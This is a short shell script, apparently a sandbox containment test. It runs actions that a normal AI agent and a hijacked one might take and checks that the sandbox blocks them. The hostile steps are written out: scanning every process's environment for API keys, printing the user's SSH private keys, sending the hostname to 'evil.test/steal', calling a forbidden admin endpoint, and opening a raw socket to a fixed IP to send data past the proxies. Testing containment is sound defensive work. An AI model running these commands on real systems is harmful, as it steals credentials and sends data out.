#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# What an agent might do, and what one that was taken over might try.  Runs inside the sandbox.

say() { printf '\n--- %s\n' "$*"; }

# get URL: status and body, by whatever client is here
get() {
	if command -v curl >/dev/null; then
		curl -s -m 10 -w '[HTTP %{http_code}]\n' "$1" || echo "curl failed: $?"
	else
		python3 - "$1" <<-'PY'
			import sys, urllib.error, urllib.request
			try:
			    r = urllib.request.urlopen(sys.argv[1], timeout=10)
			except urllib.error.HTTPError as e:
			    r = e
			except OSError as e:
			    sys.exit(f"failed: {e}")
			print(r.read().decode(), end=""); print(f"[HTTP {r.status}]")
		PY
	fi
}

say 'call the API, without a key: the gateway adds it'
get http://api.demo.test/v1/hello

say 'look for the key: environment, and those of all processes here'
if env | cat - /proc/[0-9]*/environ 2>/dev/null | tr '\0' '\n' | grep -a 'API_KEY'; then
	echo 'FOUND A KEY'
else
	echo 'no key anywhere'
fi

say 'read the SSH keys of the user'
ls -la ~/.ssh 2>&1 && cat ~/.ssh/* 2>&1

say 'send something to another host'
get "http://evil.test/steal?data=$(hostname)"

say 'the same API, a path that policy does not allow'
get http://api.demo.test/admin/keys

say 'a raw connection to an address, past every proxy setting'
python3 -c '
import socket
s = socket.create_connection(("203.0.113.9", 443), 5)
s.settimeout(5)
s.sendall(b"the secret plans\n")
print("answer:", s.recv(100) or "connection closed, nothing was sent on")' 2>&1 | tail -n1
true
